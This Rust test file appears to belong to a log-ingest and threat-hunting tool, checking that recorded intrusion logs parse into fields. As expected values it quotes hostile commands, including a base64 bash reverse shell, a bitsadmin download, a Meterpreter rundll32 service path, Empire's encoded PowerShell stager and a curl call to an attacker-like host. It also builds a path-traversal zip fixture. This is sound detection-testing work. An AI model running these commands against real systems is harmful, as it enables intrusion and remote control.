//! End-to-end ingest tests on real logs (tests/data/corpus, see its README for origins): each
//! file is ingested into a fresh store and specific fields of specific records are checked
//! through a DataFusion query, as a hunt would see them.

use crate::common;

use std::io::Write;

use common::{corpus, ingest_files, ingest_with, one_row, query, walk};
use spoor::core::Format;
use spoor::core::ingest::IngestOptions;

#[test]
fn sysmon_flat_json_from_mordor() {
    let t = ingest_files(&[corpus("edr/mordor/cmd_bitsadmin_download_psh_script.json")]);
    let f = &t.summary.files[0];
    assert_eq!(f.format, Some(Format::Windows));
    assert_eq!(f.read, 424);
    assert_eq!(f.rejected, 0);
    assert_eq!(f.skipped, 0, "every Windows event has a table: {:?}", f.skip_reasons);
    assert_eq!(f.stored, 424);
    assert_eq!(f.rows[&spoor::core::Table::Library], 141, "Sysmon 7 image loads");

    let row = one_row(
        &t.store,
        r#"SELECT "@timestamp", "host.name", "user.name", "user.domain", "process.name", "process.parent.name",
                  "process.command_line", "process.hash.sha256", "process.pid", "process.parent.entity_id",
                  "event.code", "log.file.line", "spoor.format"
           FROM process WHERE "process.name" = 'bitsadmin.exe' AND "event.code" = '1'"#,
    );
    assert_eq!(
        row,
        [
            "2020-10-23T06:36:43.542Z",
            "workstation5",
            "wardog",
            "WORKSTATION5",
            "bitsadmin.exe",
            "cmd.exe",
            r"bitsadmin.exe  /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md C:\Users\wardog\AppData\Local\Temp\bitsadmin1_flag.ps1",
            "eaae8536d554d0e86d8540a8b34db2649bd884843f389495d0b6e91636c6cf54",
            "9260",
            "{39e4a257-79ed-5f92-6e17-000000000700}",
            "1",
            "118",
            "windows",
        ]
    );

    // Security 4688 is read too: hex pids, parent by name.
    let row = one_row(
        &t.store,
        r#"SELECT "process.pid", "process.parent.pid", "process.parent.name" FROM process
           WHERE "event.code" = '4688' AND "process.name" = 'bitsadmin.exe'"#,
    );
    assert_eq!(row, ["9260", "10044", "cmd.exe"]);

    let row = one_row(
        &t.store,
        r#"SELECT "dns.question.name", "dns.answers", "dns.resolved_ip", "dns.response_code", "process.name", "log.file.line"
           FROM dns WHERE "dns.question.name" = 'raw.githubusercontent.com'"#,
    );
    assert_eq!(
        row,
        [
            "raw.githubusercontent.com",
            "[github.map.fastly.net, 151.101.208.133]",
            "[151.101.208.133]",
            "NOERROR",
            "svchost.exe",
            "388"
        ]
    );

    let row = one_row(
        &t.store,
        r#"SELECT "destination.ip", "destination.port", "network.transport", "network.direction"
           FROM network WHERE "destination.port" = 443 AND "destination.ip" = '151.101.208.133' LIMIT 1"#,
    );
    assert_eq!(row, ["151.101.208.133", "443", "tcp", "outbound"]);

    let row = one_row(
        &t.store,
        r#"SELECT "registry.hive", "registry.key", "event.action" FROM registry
           WHERE "registry.path" = 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\BITS' LIMIT 1"#,
    );
    assert_eq!(row, ["HKLM", r"SOFTWARE\Microsoft\Windows\CurrentVersion\BITS", "key_create"]);
}

#[test]
fn sysmon_for_linux_in_sentinel_syslog_rows() {
    let t = ingest_files(&[corpus("edr/mordor/sentinel_syslog_linux_sysmon_log4shell_jndi.json")]);
    let f = &t.summary.files[0];
    assert_eq!(f.format, Some(Format::SysmonLinux));
    assert_eq!((f.read, f.rejected), (93, 0));
    let row = one_row(
        &t.store,
        r#"SELECT "host.name", "user.name", "process.name", "process.parent.name", "process.command_line", "log.file.line"
           FROM process WHERE "process.command_line" LIKE '%base64,-d%'"#,
    );
    assert_eq!(
        row,
        [
            "ubuntu5",
            "tomcat",
            "bash",
            "java",
            "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}",
            "8",
        ]
    );
    // The reverse shell's connection (EID 3) and its `0>&1` in XML with a bare ampersand.
    let rows = query(
        &t.store,
        r#"SELECT "destination.port" FROM network WHERE "process.name" = 'bash' AND "destination.ip" = '192.168.2.6'"#,
    );
    assert!(rows.contains(&vec!["443".to_string()]), "{rows:?}");
}

#[test]
fn zeek_tsv_and_json_of_the_same_traffic_agree() {
    let t = ingest_files(&[corpus("dns/zeek/wrccdc2018_dns_head200.log")]);
    let j = ingest_files(&[corpus("dns/zeek/wrccdc2018_dns_head200.json")]);
    assert_eq!(t.summary.files[0].format, Some(Format::Zeek));
    assert_eq!(j.summary.files[0].format, Some(Format::ZeekJson));
    let sql = r#"SELECT "@timestamp", "event.id", "source.ip", "source.port", "destination.ip", "dns.id",
                        "dns.question.name", "dns.question.type", "dns.response_code", "dns.answers", "dns.resolved_ip"
                 FROM dns ORDER BY "@timestamp", "event.id""#;
    let from_tsv = query(&t.store, sql);
    assert_eq!(from_tsv.len(), 200);
    assert_eq!(from_tsv, query(&j.store, sql));
    assert_eq!(
        from_tsv[0],
        [
            "2018-03-24T17:15:20.865716Z",
            "CqKst53mF3det3eDV9",
            "10.47.1.100",
            "41772",
            "10.0.0.100",
            "36329",
            "ise.wrccdc.org",
            "A",
            "NOERROR",
            "[ise.wrccdc.cpp.edu, 134.71.3.16]",
            "[134.71.3.16]",
        ]
    );
}

#[test]
fn zeek_json_with_underscore_names_and_tsv_conn() {
    let t = ingest_files(&[
        corpus("dns/zeek/apt29_day1_SCRANTON_dns.json"),
        corpus("dns/zeek/apt29_day1_SCRANTON_conn.json"),
        corpus("dns/zeek/lsass_campaign01_metasploit_conn.log"),
        corpus("dns/zeek/lsass_campaign01_metasploit_dns.log"),
    ]);
    let row = one_row(
        &t.store,
        r#"SELECT "dns.response_code", "source.ip" FROM dns WHERE "dns.question.name" = 'wpad.dmevals.local' ORDER BY "@timestamp" LIMIT 1"#,
    );
    assert_eq!(row, ["NXDOMAIN", "10.0.1.4"]);
    // Fields with an ECS meaning in ECS's columns, the rest under Zeek's names. JSON
    // (true/false, numbers) and TSV (T/F, text).
    let fields = r#"SELECT "dns.header_flags", "dns.question.class", "event.duration", "dns.question.type",
        array_sort(map_keys("zeek.fields")) FROM dns WHERE "event.id" = "#;
    let row = one_row(&t.store, &format!("{fields} 'Cw1Hz43UWS4qXFei8f'"));
    assert_eq!(
        row,
        ["[AA, RD, RA]", "IN", "1578093", "A", "[@proc, @system, TTLs, Z, qclass_name, qtype, rcode, rejected, rtt]"]
    );
    let row = one_row(&t.store, &format!("{fields} 'Cnsu5m395zFmE9ikp4'"));
    assert_eq!(row, ["[]", "NULL", "NULL", "NULL", "[Z, rcode, rejected]"], "no flag set, no question");
    let row = one_row(&t.store, r#"SELECT "zeek.fields"['rejected'] FROM dns WHERE "event.id" = 'Cnsu5m395zFmE9ikp4'"#);
    assert_eq!(row, ["true"], "Zeek's TSV T, spelled as its JSON and Sigma rules spell it");
    let row = one_row(
        &t.store,
        r#"SELECT "network.protocol", "destination.port", "source.bytes", "destination.bytes", "event.duration"
           FROM network WHERE "event.id" = 'CbD9Ha1JtdoSnfM4Mf'"#,
    );
    assert_eq!(row, ["krb,smb,gssapi", "445", "4060", "1681", "10706616879"]);
    // The Meterpreter handler in the LSASS campaign.
    let rows = query(
        &t.store,
        r#"SELECT count(*) FROM network WHERE "destination.ip" = '10.0.5.13' AND "destination.port" = 8080"#,
    );
    assert_ne!(rows[0][0], "0");
    // Unset query (`-`) is stored as null, not as the text "-".
    let rows = query(&t.store, r#"SELECT count(*) FROM dns WHERE "dns.question.name" = '-'"#);
    assert_eq!(rows[0][0], "0");
}

#[test]
fn npm_pnpm_and_yarn_output() {
    let t = ingest_with(
        &[
            corpus("ci/npm-cli/npm11_ci_loglevel_http.log"),
            corpus("ci/npm-cli/npm11_install_foreground_scripts.log"),
            corpus("ci/npm-cli/pnpm9_install_append_only.log"),
            corpus("ci/npm-cli/yarn1_install_verbose.log"),
        ],
        IngestOptions { format: Some(Format::CiLog), ..Default::default() },
    );
    let rows = query(
        &t.store,
        r#"SELECT "ci.job.id", "package.manager", "package.name", "package.version", "ci.script.stage", "process.command_line"
           FROM ci WHERE "event.action" = 'lifecycle_script' ORDER BY "ci.job.id""#,
    );
    let expected = [
        ["npm11_ci_loglevel_http", "npm", "esbuild", "0.25.0", "postinstall", "node install.js"],
        ["npm11_install_foreground_scripts", "npm", "esbuild", "0.25.0", "postinstall", "node install.js"],
        ["pnpm9_install_append_only", "pnpm", "esbuild", "0.25.0", "postinstall", "node install.js"],
    ];
    assert_eq!(rows, common::rows(&expected));
    let row = one_row(
        &t.store,
        r#"SELECT "url.original", "log.file.line" FROM ci WHERE "event.action" = 'package_fetch' AND "package.name" = 'axios'"#,
    );
    assert_eq!(row, ["https://registry.example.invalid/axios/-/axios-1.14.0.tgz", "57"]);
    let row = one_row(
        &t.store,
        r#"SELECT "package.name", "package.version", "process.command_line", "log.level" FROM ci
           WHERE "event.action" = 'install_script_warning' AND "ci.job.id" = 'npm11_install_foreground_scripts'"#,
    );
    assert_eq!(row, ["esbuild", "0.25.0", "node install.js", "warning"]);
    let installs = query(
        &t.store,
        r#"SELECT "package.manager", "package.version" FROM ci WHERE "event.action" = 'package_install' AND "package.name" = 'axios' ORDER BY 1"#,
    );
    assert_eq!(installs, [["pnpm", "1.14.0"], ["yarn", "1.14.0"]]);
}

#[test]
fn github_actions_steps_and_timestamps() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("build_3.txt");
    std::fs::write(
        &log,
        "2026-03-31T00:40:01.1234567Z ##[group]Run npm ci\n\
         2026-03-31T00:40:01.2000000Z npm ci\n\
         2026-03-31T00:40:02.0000000Z ##[endgroup]\n\
         2026-03-31T00:40:09.0000000Z npm http fetch GET 200 https://registry.example.invalid/plain-crypto-js/-/plain-crypto-js-4.2.1.tgz 80ms (cache miss)\n\
         2026-03-31T00:40:10.0000000Z > plain-crypto-js@4.2.1 postinstall\n\
         2026-03-31T00:40:10.0000000Z > node setup.js\n\
         2026-03-31T00:40:12.0000000Z ##[error]Process completed with exit code 1.\n",
    )
    .unwrap();
    let t = ingest_with(&[log], IngestOptions { ci_job: Some("build#3".into()), ..Default::default() });
    assert_eq!(t.summary.files[0].format, Some(Format::CiLog));
    let rows = query(
        &t.store,
        r#"SELECT "@timestamp", "event.action", "ci.provider", "ci.job.id", "ci.step.name", "package.name", "process.command_line"
           FROM ci ORDER BY "log.file.line""#,
    );
    let expected = [
        ["2026-03-31T00:40:01.123456Z", "step_start", "github", "build#3", "Run npm ci", "NULL", "npm ci"],
        ["2026-03-31T00:40:09Z", "package_fetch", "github", "build#3", "Run npm ci", "plain-crypto-js", "NULL"],
        [
            "2026-03-31T00:40:10Z",
            "lifecycle_script",
            "github",
            "build#3",
            "Run npm ci",
            "plain-crypto-js",
            "node setup.js",
        ],
        ["2026-03-31T00:40:12Z", "error", "github", "build#3", "Run npm ci", "NULL", "NULL"],
    ];
    assert_eq!(rows, common::rows(&expected));
}

#[test]
fn bad_records_are_rejected_with_file_line_and_reason() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("mixed.json");
    let good = r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"h1","UtcTime":"2026-03-31 00:41:00.000","Image":"/usr/bin/curl","CommandLine":"curl -s http://sfrclak.com:8000/x"}"#;
    let mut file = std::fs::File::create(&path).unwrap();
    writeln!(file, "{good}").unwrap(); // 1: stored
    writeln!(file, "{{\"EventID\":1,\"Image\":").unwrap(); // 2: truncated JSON
    file.write_all(b"{\"EventID\":1,\"Image\":\"\xff\xfe\"}\n").unwrap(); // 3: invalid UTF-8
    writeln!(file, r#"{{"EventID":1,"Channel":"x","Image":"/bin/sh"}}"#).unwrap(); // 4: no time
    writeln!(file, r#"{{"EventID":1,"Channel":"x","UtcTime":"1500-01-01 00:00:00","Image":"/bin/sh"}}"#).unwrap(); // 5: out of range
    writeln!(file, "{}", "x".repeat(2000)).unwrap(); // 6: too long
    writeln!(file, r#"{{"EventID":7,"Channel":"x","UtcTime":"2026-03-31 00:41:00"}}"#).unwrap(); // 7: stored in `windows`
    writeln!(file, "{good}").unwrap(); // 8: stored
    drop(file);

    let t = ingest_with(
        &[path],
        IngestOptions { format: Some(Format::Windows), max_line_bytes: 1000, ..Default::default() },
    );
    let f = &t.summary.files[0];
    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (8, 3, 0, 5));
    assert_eq!(one_row(&t.store, r#"SELECT "event.code", "winlog.channel" FROM windows"#), ["7", "x"]);
    let rejects = query(&t.store, r#"SELECT "log.file.line", "error.message" FROM _rejects ORDER BY "log.file.line""#);
    let lines: Vec<&str> = rejects.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(lines, ["2", "3", "4", "5", "6"]);
    assert!(rejects[0][1].starts_with("not valid JSON: EOF while parsing"), "{}", rejects[0][1]);
    assert_eq!(rejects[1][1], "invalid UTF-8 at byte 23 of the line");
    let no_time = "no event time (System TimeCreated, UtcTime, @timestamp, TimeCreated or TimeGenerated)";
    assert_eq!(rejects[2][1], no_time);
    assert_eq!(rejects[3][1], no_time);
    assert_eq!(rejects[4][1], "line is 2000 bytes, longer than the limit of 1000 (--max-line-bytes)");
    let raw = one_row(&t.store, r#"SELECT "event.original", "log.file.path" FROM _rejects WHERE "log.file.line" = 2"#);
    assert_eq!(raw[0], "{\"EventID\":1,\"Image\":");
    assert!(raw[1].ends_with("mixed.json"));
}

#[test]
fn truncated_gzip_keeps_the_records_before_the_cut() {
    let dir = tempfile::tempdir().unwrap();
    let source = std::fs::read(corpus("dns/zeek/lsass_campaign01_metasploit_dns.log")).unwrap();
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(&source).unwrap();
    let compressed = encoder.finish().unwrap();

    let whole = dir.path().join("dns.log.gz");
    std::fs::write(&whole, &compressed).unwrap();
    let t = ingest_files(&[whole]);
    assert_eq!(t.summary.files[0].stored, 96, "a whole gzip file reads like the plain one");

    let cut = dir.path().join("cut.log.gz");
    std::fs::write(&cut, &compressed[..compressed.len() / 2]).unwrap();
    let t = ingest_files(&[cut]);
    let f = &t.summary.files[0];
    assert!(f.stored > 10 && f.stored < 96, "stored {}", f.stored);
    let error = f.error.as_deref().unwrap();
    assert!(error.contains("cut.log.gz: input stopped after line"), "{error}");
    assert_eq!(f.rejected, 1);
}

#[test]
fn unknown_content_is_reported_not_guessed() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("notes.txt");
    std::fs::write(&path, "dear diary\n").unwrap();
    let t = ingest_files(&[path]);
    let f = &t.summary.files[0];
    assert_eq!(f.format, None);
    assert!(f.error.as_deref().unwrap().contains("format not recognised from its content"));
    assert!(t.summary.written.is_empty());
}

#[test]
fn zstd_input_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let source = std::fs::read(corpus("dns/zeek/apt29_day1_SCRANTON_dns.json")).unwrap();
    let path = dir.path().join("dns.json.zst");
    std::fs::write(&path, zstd::encode_all(&source[..], 3).unwrap()).unwrap();
    let t = ingest_files(&[path]);
    assert_eq!((t.summary.files[0].format, t.summary.files[0].stored), (Some(Format::ZeekJson), 32));
}

#[test]
fn a_50_mb_line_is_rejected_without_being_held() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("huge.json");
    let good = r#"{"EventID":22,"Channel":"Microsoft-Windows-Sysmon/Operational","UtcTime":"2026-03-31 00:41:02.950","QueryName":"sfrclak.com"}"#;
    let mut file = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
    writeln!(file, "{good}").unwrap();
    let chunk = "A".repeat(1 << 20);
    file.write_all(b"{\"EventID\":1,\"CommandLine\":\"").unwrap();
    for _ in 0..50 {
        file.write_all(chunk.as_bytes()).unwrap();
    }
    file.write_all(b"\"}\n").unwrap();
    writeln!(file, "{good}").unwrap();
    drop(file);
    let t = ingest_files(&[path]);
    let f = &t.summary.files[0];
    assert_eq!((f.read, f.stored, f.rejected), (3, 2, 1));
    let (reason, tally) = f.reject_reasons.iter().next().unwrap();
    assert_eq!(reason, "line is 52428830 bytes, longer than the limit of 16777216 (--max-line-bytes)");
    assert_eq!(tally.first_line, 2);
    let raw = one_row(&t.store, r#"SELECT length("event.original") FROM _rejects"#);
    assert_eq!(raw[0], "4096", "only the head of the line is kept");
}

#[test]
fn a_file_of_the_wrong_format_is_rejected_line_by_line() {
    let t = ingest_with(
        &[corpus("dns/zeek/lsass_campaign01_metasploit_dns.log")],
        IngestOptions { format: Some(Format::Windows), ..Default::default() },
    );
    let f = &t.summary.files[0];
    assert_eq!((f.read, f.stored, f.rejected), (105, 0, 105));
    let reason = &f.reject_reasons["neither a JSON object nor an <Event> element"];
    assert_eq!((reason.count, reason.first_line), (105, 1), "{:?}", f.reject_reasons);
}

#[test]
fn a_record_missing_its_key_field_is_rejected_by_name() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("no-id.json");
    std::fs::write(&path, "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Image\":\"x\"}\n").unwrap();
    let t = ingest_with(&[path], IngestOptions { format: Some(Format::Windows), ..Default::default() });
    assert_eq!(t.summary.files[0].reject_reasons.keys().collect::<Vec<_>>(), ["no EventID"]);
}

#[test]
fn appends_add_files_and_never_rewrite_old_ones() {
    let dir = tempfile::tempdir().unwrap();
    let store = spoor::core::Store::open(dir.path().join("store")).unwrap();
    let input = [corpus("dns/zeek/apt29_day1_SCRANTON_dns.json")];
    let quiet = spoor::core::ingest::Quiet;
    let first = spoor::core::ingest(&store, &input, &IngestOptions::default(), &quiet).unwrap();
    let before: Vec<_> = first.written.iter().map(|p| (p.clone(), std::fs::read(p).unwrap())).collect();
    // `again`: read the same file a second time instead of skipping it as already ingested.
    let again = IngestOptions { again: true, ..Default::default() };
    let second = spoor::core::ingest(&store, &input, &again, &quiet).unwrap();
    assert!(second.written.iter().all(|p| !first.written.contains(p)), "new files only");
    for (path, bytes) in before {
        assert_eq!(std::fs::read(&path).unwrap(), bytes, "{} unchanged", path.display());
    }
    let count = one_row(&store, "SELECT count(*) FROM dns");
    assert_eq!(count, ["64"]);
    let leftovers: Vec<_> = walk(dir.path()).into_iter().filter(|p| p.to_string_lossy().contains(".tmp-")).collect();
    assert!(leftovers.is_empty(), "no temporary files after commit: {leftovers:?}");
}

#[test]
fn small_files_are_stored_uncompressed_and_large_ones_with_zstd() {
    use parquet::basic::Compression;
    use parquet::file::reader::{FileReader, SerializedFileReader};
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("dns.json");
    let mut file = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
    let lookup = |day: u32, i: usize| {
        format!(
            r#"{{"EventID":22,"Channel":"Microsoft-Windows-Sysmon/Operational","UtcTime":"2026-03-{day:02} 00:41:02.950","QueryName":"host{i}.example.test"}}"#
        )
    };
    for i in 0..10 {
        writeln!(file, "{}", lookup(30, i)).unwrap();
    }
    for i in 0..9000 {
        writeln!(file, "{}", lookup(31, i)).unwrap();
    }
    drop(file);
    let t = ingest_files(&[path]);
    assert_eq!(one_row(&t.store, "SELECT count(*) FROM dns"), ["9010"]);
    let mut found: Vec<(u64, Compression)> = t
        .summary
        .written
        .iter()
        .map(|p| {
            let reader = SerializedFileReader::new(std::fs::File::open(p).unwrap()).unwrap();
            let meta = reader.metadata();
            let rows = meta.file_metadata().num_rows() as u64;
            let mut codecs: Vec<_> =
                meta.row_groups().iter().flat_map(|g| g.columns().iter().map(|c| c.compression())).collect();
            codecs.dedup();
            assert_eq!(codecs.len(), 1, "one codec per file: {codecs:?}");
            (rows, codecs[0])
        })
        .collect();
    found.sort_by_key(|(rows, _)| *rows);
    assert_eq!(found.len(), 2);
    assert_eq!(found[0], (10, Compression::UNCOMPRESSED));
    assert_eq!(found[1].0, 9000);
    assert!(matches!(found[1].1, Compression::ZSTD(_)), "{:?}", found[1].1);
}

// Windows event logs in the shapes hunters hold them (tests/data/windows, see its README).

fn windows(rel: &str) -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/windows").join(rel)
}

#[test]
fn evtx_files_are_read_with_every_record_numbered() {
    let t = ingest_files(&[windows("evtx/new-user-security.evtx"), windows("evtx/Security_short_selected.evtx")]);
    for f in &t.summary.files {
        assert_eq!(f.format, Some(Format::Evtx), "{}", f.path.display());
        assert_eq!((f.rejected, f.skipped), (0, 0), "{:?}", f.reject_reasons);
    }
    assert_eq!((t.summary.files[0].read, t.summary.files[1].read), (4, 7));
    // Security 4720 and 4728/4732: account management lands in `audit`. A row's line is its
    // record's number in the file (these events were exported, so the numbers the records had in
    // their channel, `winlog.record_id`, differ).
    let rows = query(
        &t.store,
        r#"SELECT "event.action", "event.code", "user.target.name", "group.name", "log.file.line", "winlog.record_id",
                  "winlog.channel", "spoor.format"
           FROM audit ORDER BY "winlog.record_id""#,
    );
    assert_eq!(
        rows,
        common::rows(&[
            [
                "member_add",
                "4728",
                "S-1-5-21-3463664321-2923530833-3546627382-1000",
                "None",
                "1",
                "111",
                "Security",
                "evtx"
            ],
            ["user_create", "4720", "IEUser", "NULL", "2", "112", "Security", "evtx"],
            [
                "member_add",
                "4732",
                "S-1-5-21-3463664321-2923530833-3546627382-1000",
                "Users",
                "3",
                "113",
                "Security",
                "evtx"
            ],
            [
                "member_add",
                "4732",
                "S-1-5-21-3463664321-2923530833-3546627382-1000",
                "Administrators",
                "4",
                "116",
                "Security",
                "evtx"
            ],
        ])
    );
    // Nothing of a record is dropped: what no column holds is in `winlog.event_data`.
    let row = one_row(
        &t.store,
        r#"SELECT "winlog.event_data"['SamAccountName'], "winlog.event_data"['PrivilegeList'] FROM audit WHERE "event.code" = '4720'"#,
    );
    assert_eq!(row, ["IEUser", "NULL"], "`-` is Windows' placeholder for no value");
}

#[test]
fn a_dirty_evtx_file_keeps_every_record_it_can_read_and_names_the_chunks_it_cannot() {
    let t = ingest_files(&[windows("evtx/sysmon.evtx.zst"), windows("evtx/sample_with_a_bad_chunk_magic.evtx.zst")]);
    let (sysmon, bad) = (&t.summary.files[0], &t.summary.files[1]);
    assert_eq!(sysmon.format, Some(Format::Evtx), "compressed EVTX is detected after decompression");
    assert_eq!((sysmon.read, sysmon.stored, sysmon.rejected), (366, 358, 8));
    assert!(
        sysmon.reject_reasons.keys().all(|r| r.starts_with("EVTX: Failed to parse chunk number ")),
        "{:?}",
        sysmon.reject_reasons
    );
    assert_eq!((bad.read, bad.stored, bad.rejected), (304, 300, 4));
    assert!(bad.reject_reasons.keys().any(|r| r.contains("of chunk 7")), "{:?}", bad.reject_reasons);
    // Sysmon 10 (process access) keeps its target and rights, which no column holds.
    let rows = query(
        &t.store,
        r#"SELECT "process.name", "winlog.event_data"['TargetImage'], "winlog.event_data"['GrantedAccess'], count(*)
           FROM windows WHERE "event.code" = '10' AND "winlog.event_data"['GrantedAccess'] = '0x1000'
           GROUP BY 1, 2, 3 ORDER BY 1"#,
    );
    assert_eq!(
        rows,
        common::rows(&[
            ["svchost.exe", r"C:\Windows\system32\lsass.exe", "0x1000", "50"],
            ["vmtoolsd.exe", r"C:\Windows\system32\lsass.exe", "0x1000", "2"],
        ])
    );
}

#[test]
fn sentinel_exports_keep_their_time_and_every_field() {
    let t = ingest_files(&[
        windows("sentinel/windowsevent_sysmon_log4shell.json"),
        windows("sentinel/securityevent_log4shell.json"),
        windows("sentinel/securityevent_goldensaml_adfs.json"),
    ]);
    let reads: Vec<_> = t.summary.files.iter().map(|f| (f.format, f.read, f.stored)).collect();
    assert_eq!(
        reads,
        [(Some(Format::Windows), 50, 50), (Some(Format::Windows), 39, 39), (Some(Format::Windows), 38, 38)]
    );
    // WindowsEvent: Sysmon's data as a JSON string in EventData.
    let row = one_row(
        &t.store,
        r#"SELECT "@timestamp", "host.name", "process.parent.name", "process.name", "user.name"
           FROM process WHERE "process.parent.name" = 'tomcat9.exe' AND "spoor.format" = 'windows' ORDER BY 1 LIMIT 1"#,
    );
    assert_eq!(row[1..], ["workstation5", "tomcat9.exe", "powershell.exe", "LOCAL SERVICE"]);
    // SecurityEvent with EventData as XML text: Windows Filtering Platform connections.
    let rows = query(
        &t.store,
        r#"SELECT "process.name", "network.direction", "destination.ip", "destination.port" FROM network
           WHERE "event.code" = '5156' AND "log.file.path" LIKE '%securityevent_log4shell%' ORDER BY 1, 4"#,
    );
    assert_eq!(rows.len(), 5, "{rows:?}");
    assert!(rows.contains(&common::rows(&[["tomcat9.exe", "outbound", "192.168.3.5", "1389"]])[0]), "{rows:?}");
    // SecurityEvent of another provider (AD FS) whose unnamed data Sentinel keeps as an array.
    let row = one_row(
        &t.store,
        r#"SELECT "event.provider", "winlog.event_data"['param3'] FROM windows
           WHERE "event.code" = '412' ORDER BY "@timestamp" LIMIT 1"#,
    );
    assert_eq!(
        row,
        ["AD FS Auditing", "http://schemas.microsoft.com/ws/2006/05/servicemodel/tokens/SecureConversation"]
    );
}

#[test]
fn mordor_intrusions_land_in_their_tables() {
    let t =
        ingest_files(&[windows("mordor/empire_launcher_vbs.json"), windows("mordor/metasploit_getsystem_rtcpef.json")]);
    let (empire, metasploit) = (&t.summary.files[0], &t.summary.files[1]);
    assert_eq!((empire.read, empire.stored, empire.skipped), (142, 142, 0));
    // The first part of a split script block is held and stored joined with the second.
    assert_eq!((metasploit.read, metasploit.stored, metasploit.skipped), (21, 20, 1));
    assert_eq!(metasploit.skip_reasons.keys().next().unwrap(), spoor::core::formats::windows::HELD_PART);

    // Empire's VBS stager: wscript starts an encoded PowerShell, whose script blocks are logged.
    let rows = query(
        &t.store,
        r#"SELECT "event.code", "process.parent.name", "process.name" FROM process
           WHERE "process.parent.name" = 'wscript.exe' ORDER BY 1"#,
    );
    assert_eq!(
        rows,
        common::rows(&[["1", "wscript.exe", "powershell.exe"], ["4688", "wscript.exe", "powershell.exe"]])
    );
    let row = one_row(
        &t.store,
        r#"SELECT "powershell.command.name", "user.name", "process.command_line" LIKE '%powershell.exe -noP -sta -w 1 -enc%'
           FROM powershell WHERE "event.code" = '4103' AND "powershell.command.name" = 'New-Object' LIMIT 1"#,
    );
    assert_eq!(row, ["New-Object", "pgustavo", "true"]);

    // Meterpreter's getsystem: a service runs a DLL that connects to the payload's named pipe.
    let rows = query(
        &t.store,
        r#"SELECT "event.action", "file.name", "process.name" FROM file
           WHERE "event.action" IN ('pipe_creation', 'pipe_connection') ORDER BY 1 DESC"#,
    );
    assert_eq!(
        rows,
        common::rows(&[
            ["pipe_creation", r"\rtcpef", "winx64_payload.exe"],
            ["pipe_connection", r"\rtcpef", "rundll32.exe"]
        ])
    );
    let rows = query(&t.store, r#"SELECT "event.code", "service.name", "service.image_path" FROM service ORDER BY 1"#);
    let image = r"rundll32.exe C:\Users\PEDRO~1.GUS\AppData\Local\Temp\rtcpef.dll,a /p:rtcpef";
    assert_eq!(rows, common::rows(&[["4697", "rtcpef", image], ["7045", "rtcpef", image]]));
    // The two parts are one block again, as long as the two together.
    let row = one_row(
        &t.store,
        r#"SELECT "powershell.total", character_length("powershell.file.script_block_text"), "log.file.line"
           FROM powershell WHERE "powershell.file.script_block_id" = '12512144-9ce7-4d0c-9335-479dddfbdf11'"#,
    );
    assert_eq!(row, ["2", "20130", "21"]);
}

#[test]
fn archives_are_read_member_by_member_and_never_write_where_a_member_says() {
    let t = ingest_files(&[
        windows("sentinel/goldensaml_adfs_windowsevents.zip"),
        windows("mordor/covenant_persistwmi.tar.gz"),
    ]);
    let files: Vec<_> = t
        .summary
        .files
        .iter()
        .map(|f| (f.path.file_name().unwrap().to_string_lossy().into_owned(), f.read, f.stored))
        .collect();
    assert_eq!(
        files,
        [
            ("goldensaml_adfs_windowsevents.zip!WindowsEvents.json".to_string(), 38, 38),
            ("covenant_persistwmi.tar.gz!covenant_persistwmi_2019-12-05044734.json".to_string(), 1001, 1001),
        ]
    );
    let rows = query(&t.store, r#"SELECT DISTINCT regexp_replace("log.file.path", '.*/', '') FROM windows ORDER BY 1"#);
    assert_eq!(
        rows,
        common::rows(&[
            ["covenant_persistwmi.tar.gz!covenant_persistwmi_2019-12-05044734.json"],
            ["goldensaml_adfs_windowsevents.zip!WindowsEvents.json"],
        ])
    );

    // A hostile archive: a member that names a path outside, one that is not a log, and a bomb.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hostile.zip");
    let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
    let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    zip.start_file("../../escaped.json", stored).unwrap();
    zip.write_all(&std::fs::read(windows("sentinel/securityevent_log4shell.json")).unwrap()).unwrap();
    zip.start_file("notes.txt", stored).unwrap();
    zip.write_all(b"dear diary\n").unwrap();
    zip.finish().unwrap();
    let t = ingest_with(
        std::slice::from_ref(&path),
        IngestOptions {
            decompression: spoor::core::input::Decompression { max_bytes: 1000, max_ratio: 1000 },
            ..Default::default()
        },
    );
    let escaped = &t.summary.files[0];
    assert!(escaped.path.to_string_lossy().ends_with("hostile.zip!../../escaped.json"));
    assert!(escaped.error.as_deref().unwrap().contains("member inflates past the limit of 1000 bytes"), "{escaped:?}");
    let notes = &t.summary.files[1];
    assert!(notes.error.as_deref().unwrap().contains("format not recognised"), "{notes:?}");
    assert!(!dir.path().parent().unwrap().join("escaped.json").exists());
    let t = ingest_files(&[path]);
    assert_eq!((t.summary.files[0].read, t.summary.files[0].stored), (39, 39));
    assert!(!dir.path().parent().unwrap().join("escaped.json").exists(), "no member is written under its own name");
}

#[test]
fn auditd_records_are_joined_by_serial_into_processes_connections_and_files() {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/linux/audit.log");
    let t = ingest_files(&[path]);
    let f = &t.summary.files[0];
    assert_eq!(f.format, Some(Format::Auditd));
